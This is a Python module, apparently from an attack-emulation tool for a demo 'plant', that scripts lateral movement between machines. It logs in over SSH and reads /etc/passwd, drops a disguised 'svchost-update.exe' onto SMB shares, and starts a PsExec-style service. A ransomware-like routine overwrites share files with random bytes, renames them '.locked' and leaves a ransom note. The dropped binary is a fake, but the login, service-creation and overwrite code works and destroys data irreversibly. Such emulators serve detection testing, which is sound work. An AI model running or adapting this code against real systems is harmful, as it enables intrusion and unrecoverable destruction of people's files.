"""From one machine to the next: SSH and SMB hops, tools carried along, services started, files taken hostage."""

import asyncio
import io
import os
import time

import asyncssh
from impacket.dcerpc.v5 import scmr, transport
from impacket.smbconnection import SMBConnection

# Looks like a program to whoever reads the first bytes; it is none.
TOOL = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00" + \
       b"This program cannot be run in DOS mode.\r\r\n$" + bytes(17) + b"PE\x00\x00\x64\x86\x06\x00"


def ssh(life, step):
    """`user`, `password`; runs commands, or brings a file with `copy`."""
    async def go():
        async with asyncssh.connect(life.address(step["to"]), username=step["user"], password=step["password"], known_hosts=None,
                                    client_keys=None, client_version=step.get("banner", "OpenSSH_9.2p1")) as c:
            for command in step.get("commands", ["id", "ip addr", "cat /etc/passwd"]):
                await c.run(command)
                await asyncio.sleep(0.3)
            if step.get("copy"):
                async with c.start_sftp_client() as f:
                    async with f.open(step["copy"], "wb") as out:
                        await out.write(TOOL + os.urandom(step.get("bytes", 20000)))
    asyncio.run(go())


def session(life, step):
    c = SMBConnection(step["to"].upper(), life.address(step["to"]), sess_port=445, timeout=8)
    c.login(step["user"], step["password"], "PLANT")
    return c


def drop(life, step):
    """Writes a program to a share: `share`, `name`."""
    c = session(life, step)
    c.putFile(step["share"], step.get("name", "svchost-update.exe"), io.BytesIO(TOOL + os.urandom(step.get("bytes", 30000))).read)
    c.logoff()


def service(life, step):
    """Asks the service controller to create and start a service, as PsExec does."""
    t = transport.SMBTransport(life.address(step["to"]), 445, r"\svcctl", smb_connection=session(life, step))
    try:
        dce = t.get_dce_rpc()
        dce.connect()
        dce.bind(scmr.MSRPC_UUID_SCMR)
        manager = scmr.hROpenSCManagerW(dce, dwDesiredAccess=scmr.SC_MANAGER_CONNECT)["lpScHandle"]
        made = scmr.hRCreateServiceW(dce, manager, "PSEXESVC\0", "PSEXESVC\0", lpBinaryPathName="%SystemRoot%\\PSEXESVC.exe\0")
        scmr.hRStartServiceW(dce, made["lpServiceHandle"])
    except Exception as e:  # samba has no such services; the attempt is on the wire
        life.log(f"service: {e}")


def hostage(life, step):
    """Reads, overwrites and renames `count` files of a share, as fast as it goes."""
    c = session(life, step)
    names = [f.get_longname() for f in c.listPath(step["share"], "*") if not f.is_directory()][: min(step.get("count", 100), 300)]
    for name in names:
        buf = io.BytesIO()
        c.getFile(step["share"], name, buf.write)
        c.putFile(step["share"], name, io.BytesIO(os.urandom(len(buf.getvalue()))).read)
        c.rename(step["share"], name, name + ".locked")
        time.sleep(0.01)
    c.putFile(step["share"], "HOW_TO_GET_YOUR_FILES_BACK.txt", io.BytesIO(b"this is a drill of the demo plant\n").read)
    c.logoff()
